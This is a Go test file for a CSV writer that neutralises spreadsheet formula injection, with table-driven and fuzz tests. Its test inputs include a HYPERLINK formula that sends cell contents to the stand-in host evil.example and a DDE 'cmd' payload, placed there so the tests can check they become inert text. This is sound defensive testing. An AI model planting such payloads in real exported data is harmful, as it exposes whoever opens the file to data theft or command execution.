package data

import (
	"encoding/csv"
	"errors"
	"slices"
	"strings"
	"testing"
)

// spreadsheet puts rows through encoding/csv and the writer, in pieces of one
// byte, and gives what is written and how many cells were changed.
func spreadsheet(t testing.TB, rows [][]string) (text string, changed int) {
	t.Helper()
	var exact, out strings.Builder
	if err := csv.NewWriter(&exact).WriteAll(rows); err != nil {
		t.Fatal(err)
	}
	w := NewSpreadsheetWriter(&out)
	for i := range exact.Len() {
		if _, err := w.Write([]byte(exact.String()[i : i+1])); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.String(), w.Changed()
}

func TestD1FormulasBecomeTextAndNothingElseChanges(t *testing.T) {
	tests := map[string]string{ // cell: what it becomes, "" = it stays
		`=1+1`: `'=1+1`, `=HYPERLINK("http://evil.example/?"&A1,"x")`: `'=HYPERLINK("http://evil.example/?"&A1,"x")`,
		`+1+1`: `'+1+1`, `-2+3+cmd|' /C calc'!A0`: `'-2+3+cmd|' /C calc'!A0`, `@SUM(A1)`: `'@SUM(A1)`,
		"\t=1": "'\t'=1", "\r=1": "'\r'=1", "\n=1": "'\n'=1", "\tword": "'\tword",
		` =1`: `' =1`, `"=1"`: `'"=1"`, "\x00=1": "'\x00=1", `＝1`: `'＝1`, `＋1`: `'＋1`, `－1`: `'－1`, `＠x`: `'＠x`,
		`-`: `'-`, `+`: `'+`, `-A1`: `'-A1`, `-$A$1`: `'-$A$1`, `+49 30 1234 ext`: `'+49 30 1234 ext`, `-e3`: `'-e3`, `-1e`: `'-1e`, `--1`: `'--1`,
		`x;=1+1`: `x;'=1+1`, `x|=1`: `x|'=1`, "x\n=1": "x\n'=1", "x\t@y;-z": "x\t'@y;'-z",
		`-12.5`: ``, `+3`: ``, `-1e-9`: ``, `-1E+9`: ``, `-.5`: ``, `-1,234.50`: ``, `-1.234,5`: ``, `-12.5 %`: ``, `-1 234`: ``, `1;-2;+3`: ``,
		``: ``, `China`: ``, `a=b`: ``, `x@y.example`: ``, `'=1`: ``, `007`: ``, `Côte d'Ivoire`: ``, `a,b`: ``, `say "hi"`: ``, "two\nlines": ``, `=`: `'=`,
	}
	for cell, want := range tests {
		text, changed := spreadsheet(t, [][]string{{"x", cell, "y"}, {cell, "z", "z"}})
		back, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil {
			t.Fatalf("D-1 %q: %v in %q", cell, err, text)
		}
		kept := want == ""
		if kept {
			want = cell
		}
		want = strings.ReplaceAll(want, "\r\n", "\n")
		if back[0][1] != want || back[1][0] != want || back[0][0] != "x" || back[0][2] != "y" || kept != (changed == 0) {
			t.Errorf("D-1 %q became %q, want %q (%d changed)", cell, back, want, changed)
		}
		if kept {
			var exact strings.Builder
			_ = csv.NewWriter(&exact).WriteAll([][]string{{"x", cell, "y"}, {cell, "z", "z"}})
			if text != exact.String() {
				t.Errorf("D-1 %q: the file changed from %q to %q", cell, exact.String(), text)
			}
		}
	}
}

// FuzzSpreadsheet holds of any cells: no cell nor part of one is a formula any
// more, the shape stays, and without the apostrophes it is what it was.
func FuzzSpreadsheet(f *testing.F) {
	for _, s := range []string{"=1", "-1", "a;=b", "\"\"\"", "\t\r\n", ",\",=", "x\n\n+y", "\x00@", "'=1", "＝\xff"} {
		f.Add(s, "b")
		f.Add("a", s)
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		if strings.Contains(a+b, "\r") { // encoding/csv reads \r\n as \n
			t.Skip()
		}
		rows := [][]string{{"h", "h"}, {a, b}, {b, a}}
		text, changed := spreadsheet(t, rows)
		back, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil || len(back) != 3 {
			t.Fatalf("%v in %q", err, text)
		}
		if again, more := spreadsheet(t, back); more != 0 {
			t.Errorf("what was made safe is not: %q became %q", text, again)
		}
		bare := func(rows [][]string) (out []string) {
			for _, r := range rows {
				for _, c := range r {
					out = append(out, strings.ReplaceAll(c, "'", ""))
				}
			}
			return out
		}
		if !slices.Equal(bare(rows), bare(back)) || changed == 0 && !slices.EqualFunc(rows, back, slices.Equal) {
			t.Errorf("%q became %q", rows, back)
		}
	})
}

func TestASpreadsheetWriterThatCannotWriteSaysSo(t *testing.T) {
	w := NewSpreadsheetWriter(failing{})
	if _, err := w.Write([]byte("a,b\n")); err == nil {
		t.Error("the error is lost")
	}
}

type failing struct{}

func (failing) Write([]byte) (int, error) { return 0, errors.New("the disk is full") }
